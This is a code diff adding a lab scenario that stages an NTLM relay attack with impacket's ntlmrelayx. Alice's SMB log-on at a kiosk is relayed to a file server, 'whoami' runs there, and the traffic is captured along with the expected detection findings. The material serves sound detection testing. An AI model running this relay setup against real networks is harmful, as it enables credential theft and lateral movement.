@@ -89,6 +89,30 @@ def ntlm_relay_trap(lab: Lab) -> None:
         office.bob.run('smbclient', '//192.168.10.24/drop', '-U', f'OFFICE/bob%{services.PASSWORD}', '-c', 'ls', show='smbclient //192.168.10.24/drop -U OFFICE/bob%*** -c ls')
 
 
+@scene(Sample(
+    'ntlm-relay.pcap', 'impacket-ntlmrelayx lets alice log on at the kiosk, and uses her log-on at the file server.',
+    'alice opens a share of the kiosk: it offers her the challenge that the file server has just made up for it, and gets in as alice.',
+    ['`ntlm-hash-exposure`, technique relay (high): 192.168.10.24 relays the log-on of 192.168.10.21 to 10.20.0.20 (ATT&CK T1557.001)', '`lateral-movement`: it tries to install a service there', '`smbv1`, technique signing (low): the server does not insist on signatures'],
+    ['ntlmssp.ntlmserverchallenge | the same eight bytes from two servers', 'ntlmssp.messagetype == 3 | what alice answers, and what is handed on']))
+def ntlm_relay(lab: Lab) -> None:
+    office = Office(lab, ('alice', 'kiosk'), ('files',), delay_ms=1)
+    services.samba(office.files, newest='SMB2_10')
+    folder = LAB / 'relay'
+    folder.mkdir(exist_ok=True)
+    # Debian has no dsinternals, which only an attack wants that is not used here.
+    for module, name in (('system/Guid', 'Guid'), ('system/DateTime', 'DateTime'), ('common/cryptography/X509Certificate2', 'X509Certificate2'),
+                         ('common/data/hello/KeyCredential', 'KeyCredential')):
+        path = folder / f'dsinternals/{module}.py'
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(f'class {name}: pass\n')
+    relay = f'cd {folder} && sleep 300 | PYTHONPATH={folder} /usr/bin/python3 {IMPACKET}/ntlmrelayx.py -t smb://{FILES} -smb2support --no-wcf-server --no-raw-server -c whoami'
+    office.kiosk.spawn('sh', '-c', relay, show=f'impacket-ntlmrelayx -t smb://{FILES} -smb2support -c whoami')
+    office.kiosk.wait_for_port(445, 30)
+    with Capture(office.switch, 'ntlm-relay.pcap', 'tcpdump', '-i', 'br0'):
+        office.alice.run('smbclient', '//192.168.10.24/plans', '-m', 'SMB2', '-U', f'FILES/alice%{services.PASSWORD}', '-c', 'ls', show='smbclient //192.168.10.24/plans -m SMB2 -U FILES/alice%*** -c ls')
+        time.sleep(3)
+
+
 def kdc(host) -> None:
     """An MIT Kerberos realm: alice, an old service account that only knows RC4, one account without pre-authentication."""
     folder = LAB / 'kdc'
